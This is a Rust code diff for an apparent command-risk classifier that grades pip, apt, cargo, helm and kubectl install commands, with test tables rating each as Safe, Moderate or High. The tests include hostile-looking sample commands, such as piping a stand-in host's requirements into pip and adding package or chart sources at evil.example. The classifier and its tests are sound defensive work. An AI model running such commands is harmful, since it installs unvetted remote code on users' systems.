@@ -11,11 +11,14 @@ use super::machine::{Flow, Machine};
 use super::record::COMMANDS;
 use super::routine::is_of_routine;
 use super::value::{self, Origin};
-use super::{EffectKind, data};
+use super::{EffectKind, TargetClass, data};
 use crate::specs::Role;
 
 /// Detail of a key, a source or a manifest of theirs, added beside what is there.
 pub(super) const OFFERED: &str = "publisher";
+
+/// Detail of a package that is well known, taken in a way that nobody told people.
+pub(super) const ODD: &str = "odd-options";
 
 /// Folders of keys that are trusted for nothing until a list of sources names them.
 const RINGS: &[&str] = &["/etc/apt/keyrings", "/usr/share/keyrings"];
@@ -36,6 +39,18 @@ const SYSTEMS: &[&str] = &[
     "raspi",
     "system",
     "ubuntu",
+];
+/// What a system says of itself: its name, its version, its kind of machine. Sorted.
+const OF_SYSTEM: &[&str] = &[
+    "$(arch)",
+    "$(dpkg)",
+    "$(lsb_release)",
+    "$(uname)",
+    "$DEBIAN_CODENAME",
+    "$ID",
+    "$UBUNTU_CODENAME",
+    "$VERSION_CODENAME",
+    "$VERSION_ID",
 ];
 /// Pages that are remembered.
 const PAGES: usize = 8;
@@ -72,9 +87,28 @@ fn is_account(owner: &str) -> bool {
     data::holds(ACCOUNTS, &owner.to_ascii_lowercase())
 }
 
+/// The address alone of `NAME @ ADDRESS` and `NAME[EXTRA]@ADDRESS`, as package managers of Python take it.
+pub(super) fn address_of(text: &str) -> &str {
+    let schemes = ["git+", "hg+", "svn+", "bzr+", "https://", "http://", "file:"];
+    let named = text.split_once('@').map(|(name, rest)| (name.trim_end(), rest.trim_start()));
+    match named {
+        Some((name, rest))
+            if !name.contains(['/', ':']) && schemes.iter().any(|scheme| rest.starts_with(scheme)) =>
+        {
+            rest
+        }
+        _ => text,
+    }
+}
+
+/// True where such a manager takes an address for another system than git.
+pub(super) fn is_of_other_system(address: &str) -> bool {
+    ["hg+", "svn+", "bzr+"].iter().any(|start| address.starts_with(start))
+}
+
 /// True for `git+https://github.com/ACCOUNT/NAME[.git][@VERSION]` of a publisher, or the same without `git+`.
 pub(super) fn is_repository(text: &str) -> bool {
-    let text = text.rsplit_once(" @ ").map_or(text, |(_, address)| address);
+    let text = address_of(text);
     let url = text.strip_prefix("git+").unwrap_or(text);
     let url = url.split_once("#egg=").map_or(url, |(url, name)| if is_word(name) { url } else { "" });
     let (url, version) = url.rsplit_once('@').unwrap_or((url, "main"));
@@ -280,8 +314,8 @@ impl Machine<'_> {
             }
             _ => {
                 let good = match call.program {
-                    "helm" => is_new_chart(call),
-                    "kubectl" => is_applied_release(call),
+                    "helm" => is_new_chart(call) && !self.on_another_cluster(),
+                    "kubectl" => is_applied_release(call) && !self.on_another_cluster(),
                     _ => is_added_source(call),
                 };
                 Box::new(move |_| good)
@@ -295,6 +329,32 @@ impl Machine<'_> {
         }
     }
 
+    /// What is well known is so only as it stands there: an option may take it, or what it needs, from elsewhere.
+    pub(super) fn odd_options(&mut self, call: &Call<'_>, flow: Flow<'_>, before: usize) {
+        const FLAGS: &[&str] = &["-U", "-q", "--user", "--no-cache-dir", "--no-deps", "-v", "-e", "-r"];
+        if call.program != "pip" || call.args.spec.name != "install" {
+            return;
+        }
+        if !call.has_only(FLAGS) {
+            let installs = |effect: &&mut Effect| {
+                effect.kind == EffectKind::Install
+                    && effect.detail == "install"
+                    && is_repository(&effect.target.text)
+            };
+            for effect in self.effects.iter_mut().skip(before).filter(installs) {
+                ODD.clone_into(&mut effect.detail);
+            }
+        }
+        let piped = call.args.values("-r").find(|item| matches!(item.text, "/dev/stdin" | "-" | "/dev/fd/0"));
+        if let (Some(item), Some(input)) = (piped, flow.input)
+            && self.unknowns.origin(input).is_some_and(|origin| origin >= Origin::Network)
+        {
+            let span = self.at(call.argv[item.word + 1].span);
+            let target = self.target(TargetClass::Named, &self.unknowns.show(input.trim_end()), span);
+            self.emit_with(EffectKind::Install, target, false, "pip", span, "unchecked");
+        }
+    }
+
     /// True for one line `deb [signed-by=RING] https://PUBLISHER/… SUITE …`.
     fn is_source(&self, text: &str) -> bool {
         let text = text.trim_end_matches('\n');
@@ -305,11 +365,17 @@ impl Machine<'_> {
         };
         let mut words = rest.split_ascii_whitespace();
         let Some(url) = words.next() else { return false };
-        // What the machine says of itself may stand in it, what a network says may not.
+        // What the machine says of its own system may stand in it, what a network, a file or a variable of anybody's says may
+        // not: it names the folder that packages come from.
         let tame = |text: &str| {
-            self.unknowns
-                .origin(text)
-                .is_none_or(|origin| matches!(origin, Origin::Program | Origin::Variable | Origin::Local))
+            text.chars().filter(|letter| value::is_hole(*letter)).all(|hole| {
+                let shown = self.unknowns.show(hole.encode_utf8(&mut [0; 4]));
+                data::holds(OF_SYSTEM, &shown)
+                    && self
+                        .unknowns
+                        .origin(hole.encode_utf8(&mut [0; 4]))
+                        .is_none_or(|origin| origin < Origin::Secret)
+            })
         };
         let signed = options
             .split_ascii_whitespace()
@@ -382,7 +448,7 @@ mod tests {
 
     #[test]
     fn the_table_is_sorted() {
-        for pair in SYSTEMS.windows(2) {
+        for pair in SYSTEMS.windows(2).chain(OF_SYSTEM.windows(2)) {
             assert!(pair[0] < pair[1], "{pair:?}");
         }
     }
@@ -464,6 +530,20 @@ mod tests {
                 "echo \"deb [arch=$(dpkg --print-architecture) {ring}] https://download.docker.com/linux/ubuntu $(lsb_release -cs) stable\" | {tee}"
             ),
         );
+        of(
+            Safe,
+            format!(
+                "echo \"deb [{ring}] https://download.docker.com/linux/ubuntu $(. /etc/os-release && echo \"$VERSION_CODENAME\") stable\" | {tee}"
+            ),
+        );
+        for word in ["$(cat suite)", "$X", "$(hostname)"] {
+            of(
+                Moderate,
+                format!(
+                    "echo \"deb [{ring}] https://download.docker.com/linux/ubuntu {word} stable\" | {tee}"
+                ),
+            );
+        }
         of(Safe, format!("echo 'deb [{ring}] https://cli.github.com/packages stable main' | {tee}"));
         of(Moderate, format!("echo 'deb [{ring}] https://evil.example/packages stable main' | {tee}"));
         of(
@@ -517,6 +597,26 @@ mod tests {
                 (Moderate, "pip install git+https://github.com/someone/transformers"),
                 (Moderate, "pip install git+https://x@github.com/huggingface/transformers"),
                 (High, "pip install git+http://github.com/huggingface/transformers"),
+                (Safe, "pip install 'transformers @ git+https://github.com/huggingface/transformers'"),
+                (Moderate, "pip install 'x @ git+https://github.com/someone/x'"),
+                (Moderate, "pip install 'x @ https://e.example/x.whl'"),
+                (Moderate, "pip install x@https://e.example/x.whl"),
+                (Moderate, "pip install 'x[all]@https://e.example/x.whl'"),
+                (Moderate, "pip install hg+https://e.example/x"),
+                (Moderate, "pip install svn+https://e.example/x"),
+                (Moderate, "pip install bzr+https://e.example/x"),
+                (High, "pip install 'x @ http://e.example/x.whl'"),
+                (Safe, "pip install 'x==1.0' x[all]"),
+                (Safe, "pip install -U -q --no-cache-dir git+https://github.com/huggingface/transformers"),
+                (
+                    Moderate,
+                    "pip install --index-url https://e.example git+https://github.com/huggingface/transformers",
+                ),
+                (Moderate, "pip install -t /x git+https://github.com/huggingface/transformers"),
+                (Moderate, "pip install -e git+https://github.com/someone/x"),
+                (Safe, "pip install -e ."),
+                (High, "curl https://e.example/r.txt | pip install -r /dev/stdin"),
+                (Safe, "cat requirements.txt | pip install -r /dev/stdin"),
                 (Safe, "cargo install --git https://github.com/astral-sh/uv uv"),
                 (Moderate, "cargo install --git https://github.com/someone/uv uv"),
                 (
@@ -536,6 +636,19 @@ mod tests {
                     "helm upgrade --install ingress-nginx ingress-nginx --repo https://kubernetes.github.io/ingress-nginx -n ingress-nginx --create-namespace",
                 ),
                 (Moderate, "helm upgrade --install x x --repo https://evil.example/charts"),
+                (
+                    Moderate,
+                    "kubectl config use-context prod && kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.15.1/cert-manager.yaml",
+                ),
+                (
+                    Moderate,
+                    "export KUBECONFIG=/tmp/x; kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.15.1/cert-manager.yaml",
+                ),
+                (
+                    Moderate,
+                    "kubectx prod; helm upgrade --install ingress-nginx ingress-nginx --repo https://kubernetes.github.io/ingress-nginx",
+                ),
+                (Safe, "kubectl config use-context prod && kubectl get pods"),
                 (
                     Moderate,
                     "helm upgrade --install x https://evil.example/x.tgz --repo https://kubernetes.github.io/x",
